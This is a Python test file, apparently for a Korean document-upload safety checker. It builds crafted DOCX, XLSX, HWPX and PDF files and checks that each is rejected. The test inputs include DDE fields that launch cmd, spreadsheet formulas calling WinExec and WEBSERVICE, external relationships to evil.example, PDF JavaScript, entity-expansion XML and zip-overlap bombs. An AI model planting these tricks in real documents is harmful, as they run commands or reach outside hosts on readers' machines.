"""준비한 문서로 하는 공격: 철자를 숨겨도, 나누어 적어도, 모르는 것을 넣어도 받지 않는다."""

import io
import struct
import zipfile
import zlib

import pytest

from dure.access.file_safety.danger import Bounds
from dure.access.file_safety.looking import danger_in
from dure.access.file_types import DOCX, HWPX, PDF, XLSX
from tests.small_files import PLAIN_PDF, a_pdf, a_stream, hwpx, package, sheet, word

BOUNDS = Bounds(entries=50, unpacked_megabytes=1, megapixels=2)
OFFICE = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
OPEN = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'


def relations(text: bytes) -> bytes:
    """A document with these relationships."""
    return word(**{"word___rels__document.xml.rels": OPEN + text + b"</Relationships>"})


def relation(
    kind: bytes, target: bytes, mode: bytes = b' TargetMode="External"', prefix: bytes = b""
) -> bytes:
    about = b'Id="r1" Type="%s%s" Target="%s"%s' % (OFFICE, kind, target, mode)
    return b"<%sRelationship %s/>" % (prefix, about)


FAR = b"http://elsewhere.example/a"
RELATIONS = [
    ("앞에 이름을 단 관계", relation(b"image", FAR, prefix=b"p:"), "outside"),
    ("글자를 숨긴 바깥", relation(b"image", FAR, b' TargetMode="Ext&#101;rnal"'), "outside"),
    ("16진수로 숨긴 바깥", relation(b"image", FAR, b' TargetMode="Ext&#x65;rnal"'), "outside"),
    ("홑따옴표와 줄바꿈", relation(b"image", FAR, b"\n TargetMode\n=\n'External'"), "outside"),
    ("붙인 서식", relation(b"attachedTemplate", FAR), "outside"),
    ("안이라고 적은 붙인 서식", relation(b"attachedTemplate", b"template.xml", b""), "outside"),
    ("안이라고 적은 바깥 주소", relation(b"image", FAR, b""), "outside"),
    ("다른 컴퓨터의 그림", relation(b"image", rb"\\elsewhere\share\a.png", b""), "outside"),
    ("모르는 방식", relation(b"hyperlink", FAR, b' TargetMode="Somewhere"'), "outside"),
    ("모르는 관계", relation(b"fromTheFuture", b"a.xml", b""), "outside"),
    ("모르는 곳의 관계", b'<Relationship Type="http://evil.example/image" Target="a.png"/>', "outside"),
    ("다른 컴퓨터로 가는 링크", relation(b"hyperlink", b"file://elsewhere/share/a"), "outside"),
    ("다른 컴퓨터로 가는 짧은 링크", relation(b"hyperlink", rb"\\elsewhere\share"), "outside"),
    ("스크립트 링크", relation(b"hyperlink", b"javascript:alert(1)"), "outside"),
    ("이름을 바꾼 매크로", relation(b"vbaProject", b"theme.xml", b""), "code"),
    ("이름을 바꾼 개체", relation(b"oleObject", b"media/image1.png", b""), "object"),
    ("모르는 속성", relation(b"image", b"a.png", b' p:TargetMode="External"'), "unknown"),
]


@pytest.mark.parametrize(("name", "text", "code"), RELATIONS, ids=[each[0] for each in RELATIONS])
def test_바깥에서_부르는_문서는_어떻게_적어도_받지_않는다(name: str, text: bytes, code: str) -> None:
    assert danger_in(DOCX, relations(text), BOUNDS) == code


@pytest.mark.parametrize("encoding", ["utf-16", "utf-8-sig"])
def test_부호를_바꾸어도_읽는다(encoding: str) -> None:
    hidden = (OPEN + relation(b"image", FAR) + b"</Relationships>").decode().encode(encoding)
    assert danger_in(DOCX, word(**{"word___rels__document.xml.rels": hidden}), BOUNDS) == "outside"


def test_여느_관계는_받는다() -> None:
    text = (
        relation(b"image", b"media/image1.png", b"")
        + relation(b"styles", b"/word/styles.xml", b' TargetMode="Internal"')
        + relation(b"hyperlink", b"https://www.example.go.kr/page?a=1")
        + relation(b"hyperlink", b"mailto:a@example.go.kr")
    )
    assert danger_in(DOCX, relations(text), BOUNDS) is None


def a_field(*pieces: bytes) -> bytes:
    runs = b"".join(b"<w:r><w:instrText>%s</w:instrText></w:r>" % piece for piece in pieces)
    start, end = b'<w:fldChar w:fldCharType="begin"/>', b'<w:fldChar w:fldCharType="end"/>'
    return b"<w:document>" + start + runs + end + b"</w:document>"


DEEP = b"<a>" * 10_000 + b"</a>" * 10_000
DOCUMENTS = [
    ("프로그램을 부르는 필드", a_field(b'DDEAUTO c:\\\\windows "/k calc"'), "outside"),
    ("나누어 적은 필드", a_field(b" D", b"DE", b"AUTO cmd"), "outside"),
    ("바깥 그림 필드", a_field(b'INCLUDEPICTURE "http://elsewhere.example/a.png" \\d'), "outside"),
    ("다른 컴퓨터로 가는 필드", a_field(b'HYPERLINK "file://elsewhere/share"'), "outside"),
    ("한 줄 필드", b'<w:document><w:fldSimple w:instr="INCLUDETEXT x"/></w:document>', "outside"),
    (
        "바깥 그림 상자",
        b'<w:document><v:imagedata src="http://elsewhere.example/a.png"/></w:document>',
        "outside",
    ),
    ("옛 개체", b"<w:document><o:OLEObject/></w:document>", "object"),
    ("바깥 문서를 끼움", b'<w:document><w:altChunk r:id="r1"/></w:document>', "outside"),
    ("이름을 늘리는 글", b'<!DOCTYPE a [<!ENTITY b "bbbb"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>', "code"),
    ("바깥 모양", b'<?xml-stylesheet href="http://elsewhere.example/a.xsl"?><w:document/>', "code"),
    ("깊은 글", DEEP, "bomb"),
    ("모르는 부호", b'<?xml version="1.0" encoding="utf-7"?><w:document/>', "unreadable"),
    ("끝나지 않는 글", b"<w:document>", "unreadable"),
    ("글이 아닌 글", b"MZ\x90\x00", "unreadable"),
]


@pytest.mark.parametrize(("name", "text", "code"), DOCUMENTS, ids=[each[0] for each in DOCUMENTS])
def test_글_속에_숨긴_것도_받지_않는다(name: str, text: bytes, code: str) -> None:
    assert danger_in(DOCX, package(**{"word__document.xml": text}), BOUNDS) == code


def test_여느_필드는_받는다() -> None:
    text = a_field(b" PA", b"GE \\* MERGEFORMAT ")
    assert danger_in(DOCX, package(**{"word__document.xml": text}), BOUNDS) is None


@pytest.mark.parametrize(
    ("formula", "code"),
    [
        ("SUM(A1:A3)", None),
        ('HYPERLINK("https://www.example.go.kr","누리집")', None),
        ('IF(A1="a|b",1,0)', None),
        ('_xlfn.WEBSERVICE("http://elsewhere.example/"&amp;A1)', "outside"),
        ('webservice ("http://elsewhere.example")', "outside"),
        ('_xlfn.IMAGE("http://elsewhere.example/a.png")', "outside"),
        ("cmd|'/c calc'!A0", "outside"),
        ("'\\\\elsewhere\\[a.xlsx]Sheet1'!A1", "outside"),
        ('CALL("Kernel32","WinExec","JCJ","calc",0)', "outside"),
    ],
)
def test_수식은_셈만_한다(formula: str, code: str | None) -> None:
    text = f'<worksheet><sheetData><row><c r="A1"><f>{formula}</f></c></row></sheetData></worksheet>'
    assert danger_in(XLSX, sheet(**{"xl__worksheets__sheet1.xml": text.encode()}), BOUNDS) == code


SVG = b'<svg xmlns="http://www.w3.org/2000/svg">%s</svg>'
TYPES = b'<Types><Override PartName="/a.xml" ContentType="application/vnd.ms-%s"/></Types>'
PARTS = [
    ("모르는 조각", {"word__data.xyz": b"x"}, "unknown"),
    ("그림이라는 압축", {"word__media__image1.png": word()}, "double"),
    ("그림이라는 프로그램", {"word__media__image1.png": b"MZ\x90\x00"}, "double"),
    ("인쇄 설정이 아닌 덩이", {"word__data.bin": b"x"}, "unknown"),
    ("SVG 스크립트", {"word__media__image1.svg": SVG % b"<script>1</script>"}, "code"),
    ("SVG 사건", {"word__media__image1.svg": SVG % b'<g onload="alert(1)"/>'}, "code"),
    (
        "SVG 바깥 그림",
        {"word__media__image1.svg": SVG % b'<image href="http://elsewhere.example"/>'},
        "outside",
    ),
    ("매크로라고 적은 조각", {"[Content_Types].xml": TYPES % b"office.vbaProject"}, "code"),
    ("매크로 문서라는 조각", {"[Content_Types].xml": TYPES % b"word.document.macroEnabled.main+xml"}, "code"),
    ("큰 글자로 겹친 이름", {"word__a.xml": b"<a/>", "word__A.xml": b"<a/>"}, "double"),
]


@pytest.mark.parametrize(("name", "parts", "code"), PARTS, ids=[each[0] for each in PARTS])
def test_묶음의_조각은_아는_것만_받는다(name: str, parts: dict[str, bytes], code: str) -> None:
    assert danger_in(DOCX, word(**parts), BOUNDS) == code


def directory_moved(content: bytes, by: int) -> bytes:
    """The package with its directory said to lie further back."""
    end = content.rindex(b"PK\x05\x06")
    (at,) = struct.unpack_from("<I", content, end + 16)
    return content[: end + 16] + struct.pack("<I", at + by) + content[end + 20 :]


def test_조각_사이나_뒤에_숨긴_것은_받지_않는다() -> None:
    content = word()
    end = content.rindex(b"PK\x05\x06")
    (at,) = struct.unpack_from("<I", content, end + 16)
    hidden = directory_moved(content[:at] + b"MZ" * 50 + content[at:], 100)
    assert danger_in(DOCX, hidden, BOUNDS) == "double"
    assert danger_in(DOCX, content[:-2] + b"\x05\x00hello", BOUNDS) == "double"
    assert danger_in(DOCX, content + b"MZ", BOUNDS) == "double"


def test_겹쳐_놓은_조각은_폭탄이다() -> None:
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", b"<w:document/>")
        archive.writestr("word/styles.xml", b"<w:document/>")
        archive.infolist()[1].header_offset = 0
    assert danger_in(DOCX, kept.getvalue(), BOUNDS) == "bomb"


def test_다르게_압축한_조각은_받지_않는다() -> None:
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w", zipfile.ZIP_LZMA) as archive:
        archive.writestr("word/document.xml", b"<w:document/>")
    assert danger_in(DOCX, kept.getvalue(), BOUNDS) == "unreadable"


ITEM = b'<opf:package><opf:manifest><opf:item id="a" href="%s" media-type="%s"/></opf:manifest></opf:package>'
SCRIPTED = b"application/x-javascript ;charset=utf-16"
HANGUL = [
    ("주석 뒤의 스크립트", {"Scripts__a.js": b"/* x */ Run('x');"}, "code"),
    ("끝나지 않는 주석", {"Scripts__a.js": b"/* " * 100}, "code"),
    ("처리기 속의 스크립트", {"Scripts__a.js": b"function a(){ /* */ Run() }"}, "code"),
    ("따옴표 속의 주석", {"Scripts__a.js": b"var a = '/*'; Run(); var b = '*/';"}, "code"),
    ("줄바꿈을 바꾼 주석", {"Scripts__a.js": "// x\u2028Run();".encode()}, "code"),
    ("폴더 밖의 스크립트", {"Contents__content.hpf": ITEM % (b"BinData/a.png", SCRIPTED)}, "code"),
    (
        "바깥 그림",
        {"Contents__content.hpf": ITEM % (b"http://elsewhere.example/a.png", b"image/png")},
        "outside",
    ),
    ("이 컴퓨터의 그림", {"Contents__content.hpf": ITEM % (rb"C:\a.png", b"image/png")}, "outside"),
    (
        "암호를 건 조각",
        {"META-INF__manifest.xml": b"<odf:manifest><odf:encryption-data/></odf:manifest>"},
        "locked",
    ),
    ("OLE 개체", {"Contents__section1.xml": b"<hs:sec><hp:ole/></hs:sec>"}, "object"),
]


@pytest.mark.parametrize(("name", "parts", "code"), HANGUL, ids=[each[0] for each in HANGUL])
def test_한글_문서도_같다(name: str, parts: dict[str, bytes], code: str) -> None:
    assert danger_in(HWPX, hwpx(**parts), BOUNDS) == code


def test_한글_수식과_적어_둔_스크립트는_받는다() -> None:
    formula = b"<hs:sec><hp:equation><hp:script>a over b</hp:script></hp:equation></hs:sec>"
    parts = {
        "Contents__section1.xml": formula,
        "Contents__content.hpf": ITEM % (b"Scripts/headerScripts", SCRIPTED),
        "Scripts__headerScripts": b"// x\r\nvar Documents = XHwpDocuments;",
    }
    assert danger_in(HWPX, hwpx(**parts), BOUNDS) is None


SCRIPT = b"<< /S /JavaScript /JS (app.alert(1)) >>"
PACKED = b"4 0 " + SCRIPT
ABOUT = b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode"
PDFS = [
    ("머리만 PDF인 웹 문서", b"%PDF-1.7\n<html><script>alert(1)</script></html>", "unreadable"),
    ("머리만 PDF인 프로그램", b"%PDF-1.7\nMZ\x90\x00\x03\x00\x00\x00 This program", "unreadable"),
    ("머리만 PDF인 글", "%PDF-1.7\n상담 기록입니다".encode(), "unreadable"),
    ("머리만 PDF인 빈 글", b"%PDF-1.7\n", "unreadable"),
    ("뒤에 웹 문서를 붙인 PDF", PLAIN_PDF + b"<html></html>", "unreadable"),
    ("앞에 웹 문서를 붙인 PDF", PLAIN_PDF[:9] + b"<html></html>\n" + PLAIN_PDF[9:], "unreadable"),
    ("잘린 PDF", PLAIN_PDF[: len(PLAIN_PDF) // 2], "unreadable"),
    ("쪽이 없는 PDF", PLAIN_PDF.replace(b"/Pages", b"/Other"), "unreadable"),
    ("묶은 개체의 스크립트", a_pdf(a_stream(ABOUT, zlib.compress(PACKED))), "code"),
    ("이름을 숨긴 묶음", a_pdf(a_stream(ABOUT.replace(b"ObjStm", b"O#62jStm"), zlib.compress(PACKED))), "code"),
    ("종류를 적지 않은 묶음", a_pdf(a_stream(ABOUT[13:], zlib.compress(PACKED))), "code"),
    ("이름을 숨겨 묶은 것", a_pdf(a_stream(ABOUT, zlib.compress(b"4 0 << /S /#4aavaScript >>"))), "code"),
    ("다르게 묶은 개체", a_pdf(a_stream(ABOUT.replace(b"Flate", b"LZW"), b"x")), "unreadable"),
    ("두 번 묶은 개체", a_pdf(a_stream(ABOUT.replace(b"/Fl", b"[/A85Decode /Fl") + b"]", b"x")), "unreadable"),
    ("묶은 개체에 든 파일", a_pdf(a_stream(ABOUT, zlib.compress(b"4 0 << /EF << /F 5 0 R >> >>"))), "double"),
    ("그림 속에 숨긴 개체", a_pdf(a_stream(b"", b"9 0 obj << /A 1 >> endobj")), "double"),
    ("그림 속에 숨긴 묶음", a_pdf(a_stream(b"", b"x /Type /ObjStm x")), "double"),
    ("그림 속에 숨긴 스크립트", a_pdf(a_stream(b"", b"x /JavaScript x")), "code"),
    ("바깥에 있는 그림", a_pdf(a_stream(rb"/F (\\\\elsewhere\\a)", b"x")), "outside"),
    ("바깥 문서로 가기", a_pdf(b"<< /S /GoToR /F (a.pdf) >>"), "outside"),
    ("속에 든 문서로 가기", a_pdf(b"<< /S /GoToE >>"), "double"),
    ("양식 스크립트", a_pdf(b"<< /AA << /K << /S /J#61vaScript >> >> >>"), "code"),
    ("입력한 것을 보내기", a_pdf(b"<< /S /SubmitForm >>"), "code"),
    ("XFA 양식", a_pdf(b"<< /XFA 5 0 R >>"), "code"),
    ("깊은 개체", a_pdf(b"[" * 300 + b"]" * 300), "bomb"),
    ("닫지 않은 글", a_pdf(b"(" + b"x" * 50), "unreadable"),
    ("어긋난 괄호", a_pdf(b"<< /A [ >> ]"), "unreadable"),
    ("끝나지 않는 그림", a_pdf(b"<< /Length 3 >> stream\nxyz"), "unreadable"),
]  # fmt: skip


@pytest.mark.parametrize(("name", "content", "code"), PDFS, ids=[each[0] for each in PDFS])
def test_PDF는_머리부터_끝까지_PDF여야_한다(name: str, content: bytes, code: str) -> None:
    assert danger_in(PDF, content, BOUNDS) == code


def test_여느_PDF는_받는다() -> None:
    picture = a_stream(b"/Type /XObject /Subtype /Image /Filter /DCTDecode", bytes(range(256)) * 8)
    indirect = b"<< /Length 5 0 R >>\nstream\r\nBT (/JS \\( \\)) Tj ET\r\nendstream"
    link = b"<< /A << /S /URI /URI (https://www.example.go.kr) >> /T <FEFF> /N#61me (%) >>"
    packed = a_stream(ABOUT, zlib.compress(b"4 0 << /Title (\xea\xb0\x80) >>"))
    assert danger_in(PDF, a_pdf(picture, indirect, link, packed), BOUNDS) is None
    assert danger_in(PDF, PLAIN_PDF + PLAIN_PDF[9:], BOUNDS) is None
